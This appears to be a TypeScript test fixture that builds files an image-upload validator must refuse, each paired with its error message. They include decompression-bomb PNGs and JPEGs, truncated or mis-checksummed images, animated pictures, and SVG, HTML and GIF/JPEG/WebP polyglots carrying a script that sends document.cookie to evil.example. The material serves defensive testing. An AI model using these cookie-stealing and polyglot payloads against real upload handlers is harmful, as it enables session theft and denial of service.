/** Files that must be refused as pictures. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { noisyPicture, plainPicture } from './pictures.ts';

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** A chunk of a PNG, with a right or wrong checksum. */
export function chunk(name: string, data: Buffer, { wrong = false } = {}): Buffer {
  const content = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const framed = Buffer.alloc(content.length + 8);
  framed.writeUInt32BE(data.length);
  content.copy(framed, 4);
  framed.writeUInt32BE((crc32(content) ^ (wrong ? 1 : 0)) >>> 0, content.length + 4);
  return framed;
}

/** A PNG with one bit per pixel whose header claims this size; its pixels are `rows` bytes. */
export function png(
  width: number,
  height: number,
  { rows = 64, wrong = false, extra }: { rows?: number; wrong?: boolean; extra?: Buffer } = {},
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(rows)), { wrong });
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    extra ?? Buffer.alloc(0),
    pixels,
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The part of an animated PNG that gives its number of frames, which are shown without end. */
function animation(frames: number): Buffer {
  const data = Buffer.alloc(8);
  data.writeUInt32BE(frames);
  return chunk('acTL', data);
}

/** A JPEG whose frame header claims this size. */
async function jpegOfSize(width: number, height: number): Promise<Buffer> {
  const bytes = await sharp(await plainPicture().png().toBuffer())
    .jpeg()
    .toBuffer();
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

/** A RIFF file of chunks, the format of WebP. */
function webp(...parts: [name: string, data: Buffer][]): Buffer {
  const framed = parts.map(([name, data]) => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(data.length);
    return Buffer.concat([Buffer.from(name, 'latin1'), length, data]);
  });
  const content = Buffer.concat([Buffer.from('WEBP', 'latin1'), ...framed]);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(content.length);
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), length, content]);
}

function movingWebp(): Promise<Buffer> {
  const frame = (background: string) => plainPicture({ background }).png().toBuffer();
  return Promise.all(['red', 'blue'].map(frame)).then((frames) =>
    sharp(frames, { join: { animated: true } })
      .webp({ loop: 0, delay: [100, 100] })
      .toBuffer(),
  );
}

/** A script that must never run. */
export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
/** A picture that could run the script. */
export const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`;
/** A picture of one pixel, and an animated one of two frames. */
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const notOne = 'Send a JPEG, PNG or WebP picture.';
const damaged = 'The picture is damaged or incomplete.';
const tooMany = 'The picture has more than 25 megapixels. Send a smaller one.';
const moving = 'Animated pictures are not accepted. Send a still picture.';
const empty = 'The file is empty.';

/** Files that must be refused, each with its error message. */
export const hostilePictures: [what: string, reason: string, make: () => Buffer | Promise<Buffer>][] = [
  ['nothing at all', empty, () => Buffer.alloc(0)],
  ['one byte', notOne, () => Buffer.from([0xff])],
  ['a text called a picture', notOne, () => Buffer.from('This is a picture of a well.')],
  ['a page', notOne, () => Buffer.from(`<!doctype html>${script}`)],
  ['an SVG with a script', notOne, () => Buffer.from(svg)],
  ['a GIF', notOne, () => gif],
  [
    'a GIF that is JavaScript too',
    notOne,
    () => Buffer.concat([Buffer.from('GIF89a=1;'), Buffer.from(script)]),
  ],
  ['a bitmap', notOne, () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
  ['a TIFF', notOne, () => Buffer.concat([Buffer.from('II*\0'), Buffer.alloc(60)])],
  ['a PDF', notOne, () => Buffer.from('%PDF-1.7\n1 0 obj')],
  ['an archive', notOne, () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(60)])],
  ['an AVIF', notOne, () => plainPicture().avif({ effort: 0 }).toBuffer()],
  ['a moving WebP', moving, movingWebp],
  ['an animated PNG', moving, () => png(8, 8, { extra: animation(2) })],
  ['an animated PNG of one frame', moving, () => png(8, 8, { extra: animation(1) })],
  [
    'an animated PNG with a comment before',
    moving,
    () => png(8, 8, { extra: Buffer.concat([chunk('tEXt', Buffer.from('Title\0A well')), animation(3)]) }),
  ],
  ['an animated PNG that is cut off', moving, () => png(8, 8, { extra: animation(2) }).subarray(0, 60)],
  ['a PNG of 1.8 gigapixels in a few bytes', tooMany, () => png(60_000, 30_000)],
  ['a PNG of 26 megapixels in a few bytes', tooMany, () => png(5200, 5000, { rows: 651 * 5000 })],
  ['a PNG of the greatest size there can be', damaged, () => png(0x7fffffff, 0x7fffffff)],
  ['a PNG without width or height', damaged, () => png(0, 0)],
  ['a PNG whose checksum is wrong', damaged, () => png(8, 8, { wrong: true })],
  ['a PNG with fewer pixels than it says', damaged, () => png(400, 400)],
  [
    'a PNG that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).png().toBuffer()).subarray(0, 9000),
  ],
  ['the beginning of a PNG', damaged, () => signature],
  ['a JPEG of 4 gigapixels in a few bytes', tooMany, () => jpegOfSize(65_500, 65_500)],
  [
    'a JPEG that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).jpeg().toBuffer()).subarray(0, 2000),
  ],
  ['a JPEG without width or height', damaged, () => jpegOfSize(0, 0)],
  [
    'a script that begins as a JPEG',
    damaged,
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(script)]),
  ],
  [
    'a WebP that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).webp().toBuffer()).subarray(0, 900),
  ],
  ['a script that begins as a WebP', damaged, () => webp(['VP8 ', Buffer.from(script)])],
  [
    'a WebP of 268 megapixels in a few bytes',
    damaged,
    () => webp(['VP8L', Buffer.from('2fffffff0f00', 'hex')]),
  ],
];
